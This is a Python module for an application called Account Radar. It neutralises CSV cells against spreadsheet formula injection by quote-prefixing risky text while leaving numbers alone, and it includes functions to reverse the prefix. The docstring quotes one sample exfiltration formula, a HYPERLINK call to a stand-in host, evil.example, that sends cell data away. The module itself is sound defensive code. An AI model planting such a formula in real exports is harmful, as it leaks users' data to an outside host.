"""CSV cells a spreadsheet cannot execute: the one rule every CSV export of Account Radar uses.

A spreadsheet opening a CSV runs a cell starting with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://evil.example/?"&A1,"x")` sends the sheet's data away), and a leading
tab or carriage return hides such a start. `neutralise_cell` prefixes such text with a
single quote, which spreadsheets show as text and do not store.

Numbers stay numbers: a value of a numeric type (int, float, Decimal, bool) and a text
that is exactly one plain number (`-12`, `+3.5`, `-1e-3`) are written as they are, since a
spreadsheet reads them as a number and runs nothing; a negative amount or lift therefore
stays a negative number. Any other text starting with one of those characters (`-2+3`,
`-cmd`, `@SUM(A1)`) is neutralised.

The prefix is reversible (`restore_cell`), so a CSV the writer reads back gives the
original values: a text that already starts with quotes followed by one of those
characters gets one more quote, and reading strips exactly one.
"""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd

TRIGGERS = "=+-@\t\r"
_RISKY = re.compile(r"^'*[=+\-@\t\r]")  # what gets (and keeps) one more leading quote
_PREFIXED = re.compile(r"^'+[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def neutralise_cell(value):
    """`value` safe for a CSV cell: text a spreadsheet would execute gets a leading single
    quote; numbers (and text that is exactly a number) and other values are unchanged."""
    if not isinstance(value, str) or _NUMBER.match(value) or not _RISKY.match(value):
        return value
    return "'" + value


def restore_cell(value):
    """The original of a `neutralise_cell`-ed value (strips the one quote it added)."""
    if isinstance(value, str) and _PREFIXED.match(value):
        return value[1:]
    return value


def _text_columns(frame: pd.DataFrame) -> list:
    return [c for c in frame.columns if frame[c].dtype == object or pd.api.types.is_string_dtype(frame[c])]


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with every text cell neutralised (numeric columns untouched)."""
    out = frame.copy()
    for c in _text_columns(out):
        col = out[c]
        text = col.map(lambda v: isinstance(v, str)).astype(bool)
        risky = text & col.where(text, "").str.match(_RISKY) & ~col.where(text, "").str.match(_NUMBER)
        if risky.any():
            out[c] = col.where(~risky, "'" + col.where(risky, ""))
    return out


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """`neutralise_frame` undone (for a CSV read back as text)."""
    out = frame.copy()
    for c in _text_columns(out):
        col = out[c]
        text = col.map(lambda v: isinstance(v, str)).astype(bool)
        quoted = text & col.where(text, "").str.match(_PREFIXED)
        if quoted.any():
            out[c] = col.where(~quoted, col.where(quoted, "").str.slice(1))
    return out


def safe_csv(frame: pd.DataFrame, target: str | Path | None = None, **to_csv) -> str | None:
    """`frame.to_csv(target, index=False, **to_csv)` with its text cells neutralised; with
    no target the CSV text is returned (e.g. for an HTTP download)."""
    return neutralise_frame(frame).to_csv(target, index=False, **to_csv)
